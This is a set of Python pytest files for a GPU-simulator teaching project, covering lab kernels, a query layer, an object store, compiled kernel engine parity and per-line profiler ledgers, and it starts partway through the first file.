        tx_tiled = sum(s.global_load_transactions for s in r_tiled.kernel_stats)
        assert tx_tiled < tx_basic
        assert r_tiled.kernel_seconds < r_basic.kernel_seconds

    def test_histogram_lab_uses_atomics(self):
        lab = get_lab("image-equalization")
        result = execute_lab_source(lab, lab.solution, lab.dataset(0))
        assert any(s.atomic_ops > 0 for s in result.kernel_stats)

    def test_scan_lab_uses_barriers(self):
        lab = get_lab("reduction-scan")
        result = execute_lab_source(lab, lab.solution, lab.dataset(0))
        assert any(s.barriers > 0 for s in result.kernel_stats)

    def test_mpi_lab_runs_four_ranks(self):
        lab = get_lab("mpi-stencil")
        result = execute_lab_source(lab, lab.solution, lab.dataset(0))
        assert result.passed
        # four ranks each launched a kernel
        assert len(result.kernel_stats) == 4


class TestHierarchicalBfs:
    def test_alternative_solution_passes(self):
        from repro.labs.irregular import BFS_HIERARCHICAL_SOLUTION
        lab = get_lab("bfs-queuing")
        for index in range(len(lab.dataset_sizes)):
            result = execute_lab_source(lab, BFS_HIERARCHICAL_SOLUTION,
                                        lab.dataset(index))
            assert result.passed

    def test_shared_atomics_tracked_separately(self):
        from repro.labs.irregular import BFS_HIERARCHICAL_SOLUTION
        lab = get_lab("bfs-queuing")
        result = execute_lab_source(lab, BFS_HIERARCHICAL_SOLUTION,
                                    lab.dataset(1))
        # the hierarchical version's queue contention lives in shared
        # memory; the global counter only sees per-block flushes
        shared = max(s.max_shared_atomic_contention
                     for s in result.kernel_stats)
        global_ = max(s.max_atomic_contention for s in result.kernel_stats)
        assert shared > 0
        assert global_ <= shared
