"""Query layer: filters, ordering, pagination."""

import pytest

from repro.db import Query, asc, desc

ROWS = [
    {"name": "ana", "points": 90, "course": "HPP"},
    {"name": "bob", "points": 40, "course": "408"},
    {"name": "cyd", "points": 70, "course": "HPP"},
    {"name": "dee", "points": 70, "course": "598"},
]


def q():
    return Query(list(ROWS))


class TestWhere:
    def test_equality(self):
        assert q().where(course="HPP").count() == 2

    def test_comparison_suffixes(self):
        assert q().where(points__ge=70).count() == 3
        assert q().where(points__lt=70).count() == 1
        assert q().where(points__ne=70).count() == 2

    def test_in_operator(self):
        assert q().where(course__in=("HPP", "598")).count() == 3

    def test_contains_operator(self):
        assert q().where(name__contains="e").values("name") == ["dee"]

    def test_unknown_operator_raises(self):
        with pytest.raises(ValueError, match="unknown query operator"):
            q().where(points__zz=1)

    def test_missing_key_never_matches(self):
        assert q().where(ghost=1).count() == 0

    def test_conditions_are_anded(self):
        rows = q().where(course="HPP", points__gt=80).all()
        assert [r["name"] for r in rows] == ["ana"]

    def test_filter_predicate(self):
        rows = q().filter(lambda r: r["name"].startswith("b")).all()
        assert [r["name"] for r in rows] == ["bob"]


class TestOrderLimit:
    def test_order_by_desc(self):
        names = q().order_by(desc("points")).values("name")
        assert names[0] == "ana"

    def test_multi_key_stable_sort(self):
        names = q().order_by(desc("points"), asc("name")).values("name")
        assert names == ["ana", "cyd", "dee", "bob"]

    def test_string_means_ascending(self):
        assert q().order_by("points").values("points")[0] == 40

    def test_offset_and_limit(self):
        names = q().order_by("name").offset(1).limit(2).values("name")
        assert names == ["bob", "cyd"]

    def test_limit_zero(self):
        assert q().limit(0).all() == []

    def test_negative_offset_rejected(self):
        with pytest.raises(ValueError):
            q().offset(-1)

    def test_first(self):
        assert q().order_by(desc("points")).first()["name"] == "ana"
        assert q().where(points__gt=1000).first() is None

    def test_all_returns_copies(self):
        rows = q().all()
        rows[0]["name"] = "mutated"
        assert ROWS[0]["name"] == "ana"
