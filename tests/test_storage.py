"""S3-like object store: buckets, keys, versions, etags."""

import pytest

from repro.storage import (
    NoSuchBucketError,
    NoSuchKeyError,
    ObjectStore,
    StorageError,
)


@pytest.fixture
def bucket():
    return ObjectStore().create_bucket("webgpu-datasets")


class TestBucket:
    def test_put_get_roundtrip(self, bucket):
        bucket.put("labs/vecadd/input0", b"\x01\x02")
        assert bucket.get("labs/vecadd/input0") == b"\x01\x02"

    def test_text_helpers(self, bucket):
        bucket.put_text("desc.md", "# Vector Addition")
        assert bucket.get_text("desc.md") == "# Vector Addition"

    def test_missing_key(self, bucket):
        with pytest.raises(NoSuchKeyError):
            bucket.get("ghost")

    def test_empty_key_rejected(self, bucket):
        with pytest.raises(StorageError):
            bucket.put("", b"x")

    def test_non_bytes_rejected(self, bucket):
        with pytest.raises(StorageError):
            bucket.put("k", "not bytes")

    def test_etag_tracks_content(self, bucket):
        m1 = bucket.put("k", b"one")
        m2 = bucket.put("k", b"two")
        m3 = bucket.put("k2", b"one")
        assert m1.etag != m2.etag
        assert m1.etag == m3.etag

    def test_versions_retained(self, bucket):
        bucket.put("k", b"v1")
        bucket.put("k", b"v2")
        assert bucket.get("k", version=1) == b"v1"
        assert bucket.get("k") == b"v2"
        assert [m.version for m in bucket.versions("k")] == [1, 2]

    def test_bad_version(self, bucket):
        bucket.put("k", b"v1")
        with pytest.raises(NoSuchKeyError):
            bucket.get("k", version=5)

    def test_delete_keeps_history(self, bucket):
        bucket.put("k", b"v1")
        bucket.delete("k")
        assert not bucket.exists("k")
        assert bucket.get("k", version=1) == b"v1"
        with pytest.raises(NoSuchKeyError):
            bucket.delete("k")

    def test_prefix_listing_sorted(self, bucket):
        for key in ("b/2", "a/1", "b/1"):
            bucket.put(key, b"x")
        assert bucket.list("b/") == ["b/1", "b/2"]
        assert bucket.list() == ["a/1", "b/1", "b/2"]

    def test_head_and_totals(self, bucket):
        bucket.put("k", b"12345", metadata={"lab": "vecadd"})
        meta = bucket.head("k")
        assert meta.size == 5 and meta.metadata["lab"] == "vecadd"
        assert bucket.total_bytes() == 5
        assert len(bucket) == 1


class TestObjectStore:
    def test_duplicate_bucket_rejected(self):
        store = ObjectStore()
        store.create_bucket("b")
        with pytest.raises(StorageError):
            store.create_bucket("b")

    def test_invalid_bucket_name(self):
        with pytest.raises(StorageError):
            ObjectStore().create_bucket("has/slash")

    def test_missing_bucket(self):
        with pytest.raises(NoSuchBucketError):
            ObjectStore().bucket("ghost")

    def test_ensure_bucket_idempotent(self):
        store = ObjectStore()
        b1 = store.ensure_bucket("b")
        b2 = store.ensure_bucket("b")
        assert b1 is b2
        assert store.bucket_names == ("b",)
