"""Compiled kernel engines: parity, memoization, fallback.

Covers both compiled backends — ``closure`` (callable trees) and
``codegen`` (generated Python source) — against the ``ast``
tree-walker oracle.
"""

import inspect
import re

import numpy as np
import pytest

from repro.gpusim import Device, GpuRuntime
from repro.gpusim.grid import Dim3
from repro.minicuda import HostEnv, compile_source
from repro.minicuda import codegen, srcgen
from repro.minicuda.interpreter import ENGINES, Interpreter

COMPILED_ENGINES = tuple(e for e in ENGINES if e != "ast")

STAT_FIELDS = (
    "blocks", "threads", "warps", "instructions",
    "global_load_requests", "global_store_requests",
    "global_load_transactions", "global_store_transactions",
    "bytes_read", "bytes_written", "shared_accesses", "bank_conflicts",
    "atomic_ops", "max_atomic_contention", "max_shared_atomic_contention",
    "barriers",
)


def assert_stats_equal(a, b):
    for fld in STAT_FIELDS:
        assert getattr(a, fld) == getattr(b, fld), fld


def launch_both(source, kernel, grid, block, buf_specs, scalar_args):
    """Run one kernel under every engine; returns (stats, output) pairs."""
    results = {}
    for engine in ENGINES:
        program = compile_source(source)
        rt = GpuRuntime(Device())
        bufs = []
        for n, dtype, init in buf_specs:
            buf = rt.malloc(n, dtype)
            if init is not None:
                rt.memcpy_htod(buf, init)
            bufs.append(buf)
        args = [b.ptr() for b in bufs] + list(scalar_args)
        stats = program.launch(rt, kernel, grid, block, *args,
                               engine=engine)
        outs = [rt.memcpy_dtoh(b) for b in bufs]
        results[engine] = (stats, outs)
    return results


class TestStatsParity:
    def test_tiled_matmul_identical_counters(self):
        source = """
#define TILE 8
__global__ void matmul(float *A, float *B, float *C, int n) {
  __shared__ float As[TILE][TILE];
  __shared__ float Bs[TILE][TILE];
  int row = blockIdx.y * TILE + threadIdx.y;
  int col = blockIdx.x * TILE + threadIdx.x;
  float acc = 0.0f;
  for (int t = 0; t < n / TILE; t++) {
    As[threadIdx.y][threadIdx.x] = A[row * n + t * TILE + threadIdx.x];
    Bs[threadIdx.y][threadIdx.x] = B[(t * TILE + threadIdx.y) * n + col];
    __syncthreads();
    for (int k = 0; k < TILE; k++)
      acc += As[threadIdx.y][k] * Bs[k][threadIdx.x];
    __syncthreads();
  }
  C[row * n + col] = acc;
}
int main() { return 0; }
"""
        n = 16
        a = (np.arange(n * n, dtype=np.float32) % 7)
        b = (np.arange(n * n, dtype=np.float32) % 5)
        results = launch_both(
            source, "matmul", Dim3(n // 8, n // 8), Dim3(8, 8),
            [(n * n, np.float32, a), (n * n, np.float32, b),
             (n * n, np.float32, None)], [n])
        s_ast, out_ast = results["ast"]
        for engine in COMPILED_ENGINES:
            s_eng, out_eng = results[engine]
            assert_stats_equal(s_ast, s_eng)
            assert np.array_equal(out_ast[2], out_eng[2])
        expected = (a.reshape(n, n) @ b.reshape(n, n)).astype(np.float32)
        assert np.allclose(out_ast[2].reshape(n, n), expected)

    def test_histogram_shared_atomics_identical(self):
        source = """
#define BINS 16
__global__ void hist(int *in, int *out, int n) {
  __shared__ int local[BINS];
  if (threadIdx.x < BINS) local[threadIdx.x] = 0;
  __syncthreads();
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) atomicAdd(&local[in[i] % BINS], 1);
  __syncthreads();
  if (threadIdx.x < BINS) atomicAdd(&out[threadIdx.x],
                                    local[threadIdx.x]);
}
int main() { return 0; }
"""
        n = 256
        data = (np.arange(n, dtype=np.int32) * 7) % 23
        results = launch_both(
            source, "hist", 4, 64,
            [(n, np.int32, data), (16, np.int32, np.zeros(16, np.int32))],
            [n])
        s_ast, out_ast = results["ast"]
        for engine in COMPILED_ENGINES:
            s_eng, out_eng = results[engine]
            assert_stats_equal(s_ast, s_eng)
            assert np.array_equal(out_ast[1], out_eng[1])
        assert out_ast[1].sum() == n

    def test_grid_stride_reduction_identical(self):
        source = """
__global__ void reduce(float *in, float *out, int n) {
  __shared__ float scratch[64];
  int tid = threadIdx.x;
  float acc = 0.0f;
  for (int i = blockIdx.x * blockDim.x + tid; i < n;
       i += blockDim.x * gridDim.x)
    acc += in[i];
  scratch[tid] = acc;
  __syncthreads();
  for (int s = blockDim.x / 2; s > 0; s = s / 2) {
    if (tid < s) scratch[tid] += scratch[tid + s];
    __syncthreads();
  }
  if (tid == 0) atomicAdd(&out[0], scratch[0]);
}
int main() { return 0; }
"""
        n = 512
        data = np.ones(n, dtype=np.float32)
        results = launch_both(
            source, "reduce", 2, 64,
            [(n, np.float32, data), (1, np.float32,
                                     np.zeros(1, np.float32))], [n])
        s_ast, out_ast = results["ast"]
        for engine in COMPILED_ENGINES:
            s_eng, out_eng = results[engine]
            assert_stats_equal(s_ast, s_eng)
            assert out_eng[1][0] == n


class TestCompilation:
    def test_barrier_free_kernel_compiles_to_plain_function(self):
        source = """
__global__ void k(float *out, int n) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) out[i] = 2.0f * i;
}
int main() { return 0; }
"""
        program = compile_source(source)
        compiled = codegen.compile_kernel(program.info, "k")
        assert compiled is not None
        assert not compiled.is_gen
        rt = GpuRuntime(Device())
        interp = Interpreter(program.info, rt, None, engine="closure")
        thread_fn = interp.make_kernel(
            "k", (rt.malloc(8, "float").ptr(), 8))
        # the scheduler fast path keys off this
        assert not inspect.isgeneratorfunction(thread_fn)

    def test_barrier_kernel_compiles_to_generator(self):
        source = """
__global__ void k(float *out) {
  __shared__ float s[32];
  s[threadIdx.x] = 1.0f;
  __syncthreads();
  out[threadIdx.x] = s[31 - threadIdx.x];
}
int main() { return 0; }
"""
        program = compile_source(source)
        compiled = codegen.compile_kernel(program.info, "k")
        assert compiled is not None
        assert compiled.is_gen
        rt = GpuRuntime(Device())
        interp = Interpreter(program.info, rt, None, engine="closure")
        thread_fn = interp.make_kernel("k", (rt.malloc(32, "float").ptr(),))
        assert inspect.isgeneratorfunction(thread_fn)

    def test_artifact_memoized_on_program(self):
        source = """
__global__ void k(float *out) { out[0] = 1.0f; }
int main() { return 0; }
"""
        program = compile_source(source)
        first = codegen.compile_kernel(program.info, "k")
        second = codegen.compile_kernel(program.info, "k")
        assert first is second

    def test_cross_program_memoization_by_fingerprint(self):
        source = """
__global__ void k(float *out) { out[0] = 3.0f; }
int main() { return 0; }
"""
        # two compiles of the same source → same fingerprint → the
        # second program gets the first program's compiled kernel
        p1 = compile_source(source)
        p2 = compile_source(source)
        assert p1.info.fingerprint == p2.info.fingerprint
        assert p1.info is not p2.info
        k1 = codegen.compile_kernel(p1.info, "k")
        k2 = codegen.compile_kernel(p2.info, "k")
        assert k1 is k2


class TestFallback:
    def test_address_of_local_scalar_falls_back(self):
        source = """
__global__ void k(float *out) {
  float x = 2.0f;
  float *p = &x;
  out[0] = x;
}
int main() { return 0; }
"""
        program = compile_source(source)
        assert codegen.compile_kernel(program.info, "k") is None
        # the unsupported verdict is memoized, and the tree-walker
        # still runs the kernel under the default closure engine
        assert codegen.compile_kernel(program.info, "k") is None
        rt = GpuRuntime(Device())
        out = rt.malloc(1, "float")
        program.launch(rt, "k", 1, 1, out.ptr(), engine="closure")
        assert rt.memcpy_dtoh(out)[0] == 2.0

    def test_barrier_device_function_falls_back(self):
        source = """
__device__ void phase_sync() { __syncthreads(); }
__global__ void k(float *out) {
  __shared__ float s[32];
  s[threadIdx.x] = (float)threadIdx.x;
  phase_sync();
  out[threadIdx.x] = s[31 - threadIdx.x];
}
int main() { return 0; }
"""
        program = compile_source(source)
        assert "phase_sync" in program.info.barrier_functions
        assert "k" in program.info.barrier_functions
        assert codegen.compile_kernel(program.info, "k") is None
        rt = GpuRuntime(Device())
        out = rt.malloc(32, "float")
        program.launch(rt, "k", 1, 32, out.ptr(), engine="closure")
        assert list(rt.memcpy_dtoh(out)) == [float(31 - i)
                                             for i in range(32)]

    def test_plain_device_function_supported(self):
        source = """
__device__ float cube(float x) { return x * x * x; }
__global__ void k(float *out) {
  out[threadIdx.x] = cube((float)threadIdx.x);
}
int main() { return 0; }
"""
        program = compile_source(source)
        assert codegen.compile_kernel(program.info, "k") is not None
        rt = GpuRuntime(Device())
        out = rt.malloc(8, "float")
        program.launch(rt, "k", 1, 8, out.ptr(), engine="closure")
        assert list(rt.memcpy_dtoh(out)) == [float(i ** 3)
                                             for i in range(8)]


class TestMemoVersioning:
    SOURCE = """
__global__ void k(float *out) { out[0] = 7.0f; }
int main() { return 0; }
"""

    def test_version_bump_invalidates_cached_artifact(self, monkeypatch):
        # regression: the memo key used to be
        # ``kernelcode:{fingerprint}:{name}`` with no engine or
        # version component, so a table outliving a compiler upgrade
        # replayed pre-upgrade artifacts (and stale None verdicts)
        p1 = compile_source(self.SOURCE)
        k1 = codegen.compile_kernel(p1.info, "k")
        monkeypatch.setattr(codegen, "CLOSURE_CODEGEN_VERSION",
                            codegen.CLOSURE_CODEGEN_VERSION + 1)
        p2 = compile_source(self.SOURCE)
        k2 = codegen.compile_kernel(p2.info, "k")
        assert p1.info.fingerprint == p2.info.fingerprint
        assert k1 is not k2  # fresh compile, not a stale replay
        # same version + fingerprint still memoizes
        p3 = compile_source(self.SOURCE)
        assert codegen.compile_kernel(p3.info, "k") is k2

    def test_version_bump_recomputes_unsupported_verdict(self, monkeypatch):
        source = """
__global__ void k(float *out) {
  float x = 1.0f;
  float *p = &x;
  out[0] = x;
}
int main() { return 0; }
"""
        p1 = compile_source(source)
        assert codegen.compile_kernel(p1.info, "k") is None
        before = codegen.KERNEL_CACHE.compute_count
        monkeypatch.setattr(codegen, "CLOSURE_CODEGEN_VERSION",
                            codegen.CLOSURE_CODEGEN_VERSION + 1)
        p2 = compile_source(source)
        # still unsupported, but the verdict was re-derived by the
        # "new" compiler generation, not replayed from the old key
        assert codegen.compile_kernel(p2.info, "k") is None
        assert codegen.KERNEL_CACHE.compute_count == before + 1

    def test_engines_occupy_distinct_namespaces(self):
        p = compile_source(self.SOURCE)
        fp = p.info.fingerprint
        closure_key = codegen.memo_key(
            "closure", codegen.CLOSURE_CODEGEN_VERSION, fp, "k")
        srcgen_key = codegen.memo_key(
            "codegen", srcgen.SRCGEN_VERSION, fp, "k")
        assert closure_key != srcgen_key
        k_closure = codegen.compile_kernel(p.info, "k")
        k_srcgen = srcgen.compile_kernel(p.info, "k")
        assert isinstance(k_closure, codegen.CompiledKernel)
        assert isinstance(k_srcgen, srcgen.CompiledSrcKernel)
        assert closure_key in codegen.KERNEL_CACHE._done
        assert srcgen_key in codegen.KERNEL_CACHE._done
        # the pre-fix unversioned key format is never written
        assert f"kernelcode:{fp}:k" not in codegen.KERNEL_CACHE._done


class TestSrcgenEngine:
    def test_artifact_memoized_on_program(self):
        source = """
__global__ void k(float *out) { out[0] = 4.0f; }
int main() { return 0; }
"""
        program = compile_source(source)
        first = srcgen.compile_kernel(program.info, "k")
        second = srcgen.compile_kernel(program.info, "k")
        assert first is second

    def test_cross_program_memoization_by_fingerprint(self):
        source = """
__global__ void k(float *out) { out[0] = 5.0f; }
int main() { return 0; }
"""
        p1 = compile_source(source)
        p2 = compile_source(source)
        assert srcgen.compile_kernel(p1.info, "k") is \
            srcgen.compile_kernel(p2.info, "k")

    def test_unsupported_construct_falls_back_to_tree_walker(self):
        source = """
__global__ void k(float *out) {
  float x = 9.0f;
  float *p = &x;
  out[0] = x;
}
int main() { return 0; }
"""
        program = compile_source(source)
        assert srcgen.compile_kernel(program.info, "k") is None
        rt = GpuRuntime(Device())
        out = rt.malloc(1, "float")
        program.launch(rt, "k", 1, 1, out.ptr(), engine="codegen")
        assert rt.memcpy_dtoh(out)[0] == 9.0

    def test_barrier_free_kernel_gets_warp_fast_path(self):
        source = """
__global__ void k(float *out, int n) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) out[i] = 3.0f * i;
}
int main() { return 0; }
"""
        program = compile_source(source)
        compiled = srcgen.compile_kernel(program.info, "k")
        assert compiled is not None
        assert not compiled.is_gen
        assert compiled.warp_factory is not None
        rt = GpuRuntime(Device())
        interp = Interpreter(program.info, rt, None, engine="codegen")
        thread_fn = interp.make_kernel(
            "k", (rt.malloc(8, "float").ptr(), 8))
        assert not inspect.isgeneratorfunction(thread_fn)
        # the scheduler's warp-vectorized dispatch keys off this
        assert callable(getattr(thread_fn, "vector_run", None))

    def test_barrier_kernel_compiles_to_generator(self):
        source = """
__global__ void k(float *out) {
  __shared__ float s[32];
  s[threadIdx.x] = 1.0f;
  __syncthreads();
  out[threadIdx.x] = s[31 - threadIdx.x];
}
int main() { return 0; }
"""
        program = compile_source(source)
        compiled = srcgen.compile_kernel(program.info, "k")
        assert compiled is not None
        assert compiled.is_gen
        rt = GpuRuntime(Device())
        interp = Interpreter(program.info, rt, None, engine="codegen")
        thread_fn = interp.make_kernel("k", (rt.malloc(32, "float").ptr(),))
        assert inspect.isgeneratorfunction(thread_fn)

    def test_global_oob_fault_message_matches_oracle(self):
        source = """
__global__ void k(float *out, int n) {
  out[n + 64] = 1.0f;
}
int main() { return 0; }
"""
        messages = {}
        for engine in ("ast", "codegen"):
            program = compile_source(source)
            rt = GpuRuntime(Device())
            out = rt.malloc(4, "float")
            with pytest.raises(Exception) as info:
                program.launch(rt, "k", 1, 1, out.ptr(), 4, engine=engine)
            # the auto-assigned allocation label differs per runtime
            messages[engine] = re.sub(r"alloc\d+", "alloc",
                                      str(info.value))
        assert "out of bounds" in messages["codegen"]
        assert messages["codegen"] == messages["ast"]

    def test_md_shared_oob_fault_message_matches_oracle(self):
        # the codegen engine lowers As[i][j] to flat indexing with an
        # inline bounds check; its fault text must match the MDView
        # path the tree-walker takes
        source = """
__global__ void k(float *out, int i) {
  __shared__ float As[4][4];
  As[i][0] = 1.0f;
  out[0] = As[0][0];
}
int main() { return 0; }
"""
        messages = {}
        for engine in ("ast", "codegen"):
            program = compile_source(source)
            rt = GpuRuntime(Device())
            out = rt.malloc(1, "float")
            with pytest.raises(Exception) as info:
                program.launch(rt, "k", 1, 1, out.ptr(), 9, engine=engine)
            messages[engine] = str(info.value)
        assert "out of range" in messages["codegen"]
        assert messages["codegen"] == messages["ast"]


class TestSemanticBarrierAnalysis:
    def test_transitive_barrier_use_detected(self):
        source = """
__device__ void inner() { __syncthreads(); }
__device__ void outer() { inner(); }
__global__ void k() { outer(); }
__global__ void plain(float *out) { out[0] = 1.0f; }
int main() { return 0; }
"""
        info = compile_source(source).info
        assert info.kernel_uses_barrier("k")
        assert not info.kernel_uses_barrier("plain")
        assert {"inner", "outer", "k"} <= info.barrier_functions
        assert "plain" not in info.barrier_functions

    def test_opencl_barrier_detected(self):
        source = """
__kernel void k(__global float *out) {
  barrier(CLK_LOCAL_MEM_FENCE);
  out[get_global_id(0)] = 1.0f;
}
"""
        info = compile_source(source).info
        assert info.kernel_uses_barrier("k")


class TestEngineParityUnderLoad:
    @pytest.mark.parametrize("block", [32, 64])
    def test_divergent_control_flow_parity(self, block):
        source = """
__global__ void branchy(int *out, int n) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  int acc = 0;
  for (int j = 0; j < i % 5; j++) {
    if (j % 2 == 0) acc += j * i;
    else acc -= j;
    switch (j % 3) {
      case 0: acc++; break;
      case 1: acc += 2; break;
      default: acc--; break;
    }
  }
  if (i < n) out[i] = acc;
}
int main() { return 0; }
"""
        n = block * 2
        results = launch_both(
            source, "branchy", 2, block,
            [(n, np.int32, np.zeros(n, np.int32))], [n])
        s_ast, out_ast = results["ast"]
        for engine in COMPILED_ENGINES:
            s_eng, out_eng = results[engine]
            assert_stats_equal(s_ast, s_eng)
            assert np.array_equal(out_ast[0], out_eng[0])
