"""Engine parity of the per-source-line profiler ledgers.

Every kernel engine — the tree-walking oracle (``ast``), the closure
compiler, the source-codegen tier, and the warp-SIMD tier — must
produce **bit-identical** :class:`repro.profiler.LineProfile` ledgers
for the same launch. This is the profiler half of the engine-parity
contract: outputs and whole-kernel counters already agree
(``test_minicuda_simd.py``); this corpus pins the per-line attribution
on every construct the attribution rules mention — barriers, shared
tiles, divergence, atomics, device functions, break/continue, bank
conflicts, local arrays, and switch.
"""

from __future__ import annotations

import numpy as np

from repro.gpusim import Device, GpuRuntime
from repro.gpusim.grid import Dim3
from repro.labs import get_lab
from repro.labs.base import execute_lab_source
from repro.minicuda import compile_source
from repro.profiler import LineProfile, render_annotated

ENGINES = ("ast", "closure", "codegen", "simd")


def profiled_ledgers(source, kernel, grid, block, arrays, scalars):
    """Launch on every engine with profiling on; returns
    {engine: (outputs, LineProfile)}."""
    program = compile_source(source)
    out = {}
    for engine in ENGINES:
        rt = GpuRuntime(Device())
        bufs = []
        for arr in arrays:
            buf = rt.malloc(int(arr.size), arr.dtype)
            rt.memcpy_htod(buf, arr)
            bufs.append(buf)
        args = [b.ptr() for b in bufs] + list(scalars)
        stats = program.launch(rt, kernel, grid, block, *args,
                               engine=engine, profile=True)
        assert stats.line_profile is not None, engine
        out[engine] = ([rt.memcpy_dtoh(b) for b in bufs],
                       stats.line_profile)
    return out


def assert_ledger_parity(source, kernel, grid, block, arrays, scalars):
    """Outputs equal AND ledgers bit-identical (canonical JSON) on
    every engine; returns the oracle ledger."""
    results = profiled_ledgers(source, kernel, grid, block, arrays,
                               scalars)
    outs_ast, ledger_ast = results["ast"]
    assert ledger_ast.total_instructions > 0
    reference_json = ledger_ast.to_json()
    for engine in ENGINES[1:]:
        outs, ledger = results[engine]
        for a, b in zip(outs_ast, outs):
            assert np.array_equal(a, b), engine
        assert ledger == ledger_ast, engine
        # bit-identical includes the serialized CAS payload: the same
        # kernel profiled on any engine hits the same cache entry
        assert ledger.to_json() == reference_json, engine
    return ledger_ast


class TestCorpusParity:
    def test_tiled_matmul_with_barriers(self):
        source = """
__global__ void mm(float *a, float *b, float *c, int n) {
  __shared__ float ta[8][8];
  __shared__ float tb[8][8];
  int row = blockIdx.y * 8 + threadIdx.y;
  int col = blockIdx.x * 8 + threadIdx.x;
  float acc = 0.0f;
  for (int t = 0; t < n / 8; t++) {
    ta[threadIdx.y][threadIdx.x] = a[row * n + t * 8 + threadIdx.x];
    tb[threadIdx.y][threadIdx.x] = b[(t * 8 + threadIdx.y) * n + col];
    __syncthreads();
    for (int k = 0; k < 8; k++) {
      acc += ta[threadIdx.y][k] * tb[k][threadIdx.x];
    }
    __syncthreads();
  }
  c[row * n + col] = acc;
}
int main() { return 0; }
"""
        n = 16
        a = (np.arange(n * n, dtype=np.float32) % 7).astype(np.float32)
        b = (np.arange(n * n, dtype=np.float32) % 5).astype(np.float32)
        program = compile_source(source)
        results = {}
        for engine in ENGINES:
            rt = GpuRuntime(Device())
            bufs = [rt.malloc(n * n, "float") for _ in range(3)]
            rt.memcpy_htod(bufs[0], a)
            rt.memcpy_htod(bufs[1], b)
            stats = program.launch(rt, "mm", Dim3(2, 2), Dim3(8, 8),
                                   bufs[0].ptr(), bufs[1].ptr(),
                                   bufs[2].ptr(), n, engine=engine,
                                   profile=True)
            results[engine] = (rt.memcpy_dtoh(bufs[2]),
                               stats.line_profile)
        out_ast, ledger_ast = results["ast"]
        assert ledger_ast is not None
        expected = (a.reshape(n, n) @ b.reshape(n, n)).astype(np.float32)
        assert np.allclose(np.asarray(out_ast).reshape(n, n), expected)
        for engine in ENGINES[1:]:
            out, ledger = results[engine]
            assert np.array_equal(np.asarray(out), np.asarray(out_ast)), \
                engine
            assert ledger == ledger_ast, engine
        # shared traffic lands on the tile-access lines, not the loop
        shared_lines = [line for line, c in ledger_ast.lines.items()
                        if c.shared_accesses]
        assert shared_lines, "no shared accesses attributed"

    def test_tree_reduction(self):
        source = """
__global__ void reduce(float *in, float *out) {
  __shared__ float scratch[64];
  int tid = threadIdx.x;
  scratch[tid] = in[blockIdx.x * blockDim.x + tid];
  __syncthreads();
  for (int s = blockDim.x / 2; s > 0; s = s / 2) {
    if (tid < s) scratch[tid] += scratch[tid + s];
    __syncthreads();
  }
  if (tid == 0) out[blockIdx.x] = scratch[0];
}
int main() { return 0; }
"""
        data = (np.arange(128, dtype=np.float32) % 11)
        ledger = assert_ledger_parity(
            source, "reduce", 2, 64, [data, np.zeros(2, np.float32)], [])
        # the strided-if inside the loop diverges once s < warp width
        assert any(c.divergent_branches for c in ledger.lines.values())

    def test_divergence_heavy(self):
        source = """
__global__ void branchy(int *out, int n) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) {
    if (i % 2 == 0) {
      out[i] = i * 3;
    } else {
      if (i % 3 == 0) {
        out[i] = i - 7;
      } else {
        out[i] = i + 1;
      }
    }
  }
}
int main() { return 0; }
"""
        ledger = assert_ledger_parity(
            source, "branchy", 2, 32, [np.zeros(60, np.int32)], [60])
        # divergence charges attach to the if lines (4, 5, 8), never to
        # the assignment statements inside the arms
        div_lines = {line for line, c in ledger.lines.items()
                     if c.divergent_branches}
        assert div_lines
        assert div_lines <= {4, 5, 8}

    def test_atomics_histogram(self):
        source = """
__global__ void hist(int *in, int *bins, int n) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) {
    atomicAdd(&bins[in[i] % 8], 1);
  }
}
int main() { return 0; }
"""
        data = ((np.arange(50, dtype=np.int32) * 7) % 13).astype(np.int32)
        ledger = assert_ledger_parity(
            source, "hist", 2, 32, [data, np.zeros(8, np.int32)], [50])
        # all 50 atomics charge the atomicAdd line
        assert ledger.counters(5).atomic_ops == 50

    def test_device_function_calls(self):
        source = """
__device__ int triple(int v) {
  return v * 3;
}
__device__ int mix(int a, int b) {
  int t = triple(a);
  return t + b;
}
__global__ void apply(int *out, int n) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) {
    out[i] = mix(i, 5);
  }
}
int main() { return 0; }
"""
        ledger = assert_ledger_parity(
            source, "apply", 1, 32, [np.zeros(32, np.int32)], [32])
        # work inside device functions charges the callee's lines
        assert ledger.counters(3).instructions > 0
        assert ledger.counters(6).instructions > 0

    def test_loops_with_break_continue(self):
        source = """
__global__ void scan(int *out, int n) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  int acc = 0;
  for (int k = 0; k < 16; k++) {
    if (k == i % 4) continue;
    if (k > 10 + i % 3) break;
    acc += k;
  }
  out[i] = acc;
}
int main() { return 0; }
"""
        assert_ledger_parity(
            source, "scan", 2, 32, [np.zeros(64, np.int32)], [64])

    def test_bank_conflicts(self):
        source = """
__global__ void tile(float *out) {
  __shared__ float t[32][32];
  int x = threadIdx.x;
  t[x][0] = x * 1.0f;
  __syncthreads();
  out[x] = t[x][0] + t[0][x];
}
int main() { return 0; }
"""
        ledger = assert_ledger_parity(
            source, "tile", 1, 32, [np.zeros(32, np.float32)], [])
        # the column-major store on line 5 replays across banks; the
        # charge must be on that store line on every engine
        assert ledger.counters(5).bank_conflicts > 0

    def test_local_arrays(self):
        source = """
__global__ void window(float *in, float *out, int n) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  float w[4];
  for (int k = 0; k < 4; k++) {
    w[k] = in[(i + k) % n];
  }
  float acc = 0.0f;
  for (int k = 0; k < 4; k++) {
    acc += w[k] * 0.25f;
  }
  out[i] = acc;
}
int main() { return 0; }
"""
        data = (np.arange(64, dtype=np.float32) * 0.5).astype(np.float32)
        assert_ledger_parity(
            source, "window", 2, 32,
            [data, np.zeros(64, np.float32)], [64])

    def test_switch_dispatch(self):
        source = """
__global__ void dispatch(int *out, int n) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) {
    switch (i % 3) {
      case 0:
        out[i] = i * 2;
        break;
      case 1:
        out[i] = i + 100;
        break;
      default:
        out[i] = -i;
        break;
    }
  }
}
int main() { return 0; }
"""
        assert_ledger_parity(
            source, "dispatch", 2, 32, [np.zeros(60, np.int32)], [60])

